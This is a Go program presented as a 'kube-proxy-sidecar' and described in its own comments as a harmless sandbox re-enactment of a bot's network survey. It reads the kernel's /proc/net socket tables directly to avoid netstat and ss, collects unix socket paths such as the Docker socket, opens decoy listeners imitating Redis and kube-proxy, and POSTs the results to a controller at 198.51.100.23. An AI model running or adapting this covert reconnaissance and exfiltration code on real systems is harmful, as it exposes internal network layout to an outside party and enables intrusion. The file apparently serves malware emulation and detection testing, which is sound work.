// kube-proxy-sidecar: harmless re-enactment of a bot's network connection survey. It reads the
// kernel's socket tables itself (no netstat, no ss), decodes them and reports them to its
// controller at 198.51.100.23 (a documentation address the sandbox answers). Bounded: one
// pass, one request.
package main

import (
	"bufio"
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"
)

var states = map[string]string{
	"01": "ESTABLISHED", "02": "SYN_SENT", "03": "SYN_RECV", "06": "TIME_WAIT",
	"07": "CLOSE", "08": "CLOSE_WAIT", "0A": "LISTEN",
}

type socket struct {
	Proto  string `json:"proto"`
	Local  string `json:"local"`
	Remote string `json:"remote"`
	State  string `json:"state"`
	UID    string `json:"uid"`
}

// "0100007F:18EB" -> "127.0.0.1:6379"; IPv6 is four little-endian 32-bit words.
func decode(field string) string {
	host, port, ok := strings.Cut(field, ":")
	if !ok {
		return field
	}
	p, _ := strconv.ParseUint(port, 16, 16)
	raw, err := hex.DecodeString(host)
	if err != nil {
		return field
	}
	ip := make(net.IP, len(raw))
	for word := 0; word+4 <= len(raw); word += 4 {
		for i := 0; i < 4; i++ {
			ip[word+i] = raw[word+3-i]
		}
	}
	return net.JoinHostPort(ip.String(), strconv.FormatUint(p, 10))
}

// "  0: 0100007F:18EB 00000000:0000 0A 00000000:00000000 00:00000000 00000000  0  0 1234 1 ..."
func table(proto string) []socket {
	f, err := os.Open("/proc/net/" + proto)
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []socket
	sc := bufio.NewScanner(f)
	sc.Scan() // header
	for sc.Scan() {
		cols := strings.Fields(sc.Text())
		if len(cols) < 8 {
			continue
		}
		state := states[cols[3]]
		if state == "" {
			state = cols[3]
		}
		out = append(out, socket{proto, decode(cols[1]), decode(cols[2]), state, cols[7]})
	}
	return out
}

// "0000000000000000: 00000002 00000000 00010000 0001 01 23456 /run/docker.sock"
func unixPaths() []string {
	f, err := os.Open("/proc/net/unix")
	if err != nil {
		return nil
	}
	defer f.Close()
	var paths []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if cols := strings.Fields(sc.Text()); len(cols) == 8 {
			paths = append(paths, cols[7])
		}
	}
	return paths
}

func main() {
	// a few sockets of its own, as the service it pretends to be would have
	if l, err := net.Listen("tcp", "127.0.0.1:6379"); err == nil {
		defer l.Close()
		if c, err := net.Dial("tcp", "127.0.0.1:6379"); err == nil {
			defer c.Close()
		}
	}
	if l, err := net.Listen("tcp6", "[::]:10256"); err == nil {
		defer l.Close()
	}
	if u, err := net.ListenPacket("udp", "0.0.0.0:8472"); err == nil {
		defer u.Close()
	}
	if l, err := net.Listen("unix", "/tmp/.kp.sock"); err == nil {
		defer l.Close()
	}
	time.Sleep(200 * time.Millisecond)

	var sockets []socket
	for _, proto := range []string{"tcp", "tcp6", "udp", "udp6"} {
		sockets = append(sockets, table(proto)...)
	}
	report := map[string]any{"sockets": sockets, "unix": unixPaths()}
	body, _ := json.Marshal(report)
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Post("http://198.51.100.23/api/v1/netstat", "application/json", bytes.NewReader(body))
	if err != nil {
		fmt.Println("kube-proxy-sidecar: report failed:", err)
		return
	}
	resp.Body.Close()
	fmt.Println("kube-proxy-sidecar: reported", len(sockets), "sockets:", resp.Status)
}
